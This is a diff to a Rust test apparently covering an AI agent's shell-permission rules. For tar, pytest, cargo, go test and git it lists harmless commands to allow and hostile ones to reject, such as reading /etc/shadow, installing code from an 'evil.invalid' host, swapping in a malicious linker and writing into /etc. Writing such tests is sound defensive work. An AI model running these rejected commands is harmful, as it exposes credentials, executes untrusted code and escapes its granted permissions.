@@ -50,6 +50,112 @@ fn exact_means_exact() {
 fn a_star_does_not_cover_words_that_run_or_write_anything() {
     let table: &[(&str, &[&str], &[&str])] = &[
         (
+            "Bash(tar:*)",
+            &[
+                "tar xf a",
+                "tar -xf a",
+                "tar czf a.tgz src",
+                "tar --list --file=a",
+            ],
+            &[
+                "tar xfI a ./evil",
+                "tar cfF a ./evil b",
+                "tar xfC a /",
+                "tar xPf a",
+                "tar cTf list a",
+                "tar $x",
+            ],
+        ),
+        (
+            "Bash(pytest:*)",
+            &[
+                "pytest",
+                "pytest -xvs tests",
+                "pytest -k 'a or b' --tb=short -n 4",
+            ],
+            &[
+                "pytest -p evil",
+                "pytest -c evil.ini",
+                "pytest --config-file=evil.ini",
+                "pytest -o addopts=-pevil",
+                "pytest --basetemp=/home",
+                "pytest --junitxml=/etc/x",
+                "pytest --pdbcls=evil:Evil",
+                "pytest @evil",
+            ],
+        ),
+        (
+            "Bash(cargo test:*)",
+            &[
+                "cargo test",
+                "cargo test -p a --release -- --nocapture name",
+                "cargo test --all-features -j 4",
+            ],
+            &[
+                "cargo test --config evil",
+                "cargo test --conf evil",
+                "cargo test --manifest-path ../evil/Cargo.toml",
+                "cargo test --target-dir /etc",
+                "cargo test --artifact-dir=/etc",
+                "cargo test --target evil.json",
+                "cargo test -Zunstable",
+                "cargo test -- --logfile=/etc/x",
+            ],
+        ),
+        (
+            "Bash(cargo *)",
+            &[
+                "cargo clippy --all-targets -- -D warnings",
+                "cargo fmt --all -- --check",
+            ],
+            &[
+                "cargo +/tmp/evil test",
+                "cargo install --root / x",
+                "cargo install --git https://evil.invalid/x",
+                "cargo rustc -- -C linker=./evil",
+                "cargo rustc -- -Clinker=./evil",
+                "cargo fmt -- --config-path evil",
+            ],
+        ),
+        (
+            "Bash(go test:*)",
+            &[
+                "go test ./...",
+                "go test -v -run 'Test.*' -count=1 --race ./a",
+            ],
+            &[
+                "go test -exec ./evil",
+                "go test --exec=./evil",
+                "go test -o /etc/x",
+                "go test -coverprofile=/etc/x",
+                "go test -cpuprofile /etc/x",
+                "go test -asmflags=x",
+                "go test -compiler gccgo",
+                "go test -args -test.cpuprofile=/etc/x",
+                "go test -test.trace=/etc/x",
+            ],
+        ),
+        (
+            "Bash(git *)",
+            &[
+                "git add /srv/project/a",
+                "git log main..x",
+                "git commit -F message",
+            ],
+            &[
+                "git worktree add /root/x",
+                "git worktree add ../x",
+                "git init ~/x",
+                "git clone https://x.invalid/y ../y",
+                "git diff ../../etc/passwd x",
+                "git commit -F /etc/shadow",
+                "git commit -F/etc/shadow",
+                "git blame --contents /etc/shadow x",
+                "git log -O/etc/x",
+                "git fetch --multiple a ../b",
+            ],
+        ),
+        (
             "Bash(find:*)",
             &["find . -name '*.rs'", "find src -type f", "find ./*"],
             &[
